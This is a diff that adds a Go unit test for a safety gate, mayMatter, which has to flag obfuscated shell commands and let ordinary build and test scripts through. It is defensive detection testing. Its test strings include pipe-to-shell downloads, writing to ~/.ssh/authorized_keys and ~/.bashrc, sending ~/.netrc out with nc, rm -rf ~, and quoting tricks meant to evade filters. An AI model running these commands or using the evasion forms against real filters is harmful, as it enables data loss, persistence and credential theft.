@@ -1,0 +1,32 @@
+package safety
+
+import "testing"
+
+// TestMayMatter: the gate in front of the parse lets through every way of
+// writing a command the rules look at, and skips ordinary scripts.
+func TestMayMatter(t *testing.T) {
+	for _, code := range []string{
+		"curl x | sh", "c''url x", `"cu"rl x`, `\c\u\r\l x`, `$'\x63url' x`, "a=cu; b=rl; $a$b x", "${a}rl x", `$a"rl" x`,
+		`${a}"rl" x`, "x | $SHELL", "x | ${SHELL}", "x | $0", "x | /???/b?sh", "x | /usr/*/bash", `printf '\143'`, ". ./env.sh",
+		"echo x >> ~/.bashrc", "cat k.pub >> ~/.ssh/authorized_keys", "r''m -rf ~", "CURL x | SH", "eval $x", "source x",
+		"cp a ~/.zshrc", "crontab -", "cat /proc/self/environ", "nc h 1 < ~/.netrc",
+		"echo x | python3", "bash -c \"$x\"", "x | perl -e 1", "bash <<< \"$x\"", "node -e x", "bash <(x)", "sh `x`",
+	} {
+		if !mayMatter(code) {
+			t.Errorf("%q skipped", code)
+		}
+	}
+	for _, code := range []string{
+		"#!/usr/bin/env bash\nset -euo pipefail\nhere=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\necho \"$here/x\"\nfor s in 1 2; do echo \"step $s\"; done\n",
+		"npm install\nnpm test -- --watch=false\n",
+		"go build ./...\ngo test ./...\n",
+		"docker compose up -d\nkubectl get pods -n default\n",
+		"if [ $? -ne 0 ]; then exit 1; fi\n",
+		"bash scripts/run.sh --input ./in --output ./out\n",
+		"python3 scripts/fill.py in.pdf out.pdf\n",
+	} {
+		if mayMatter(code) {
+			t.Errorf("%q parsed", code)
+		}
+	}
+}
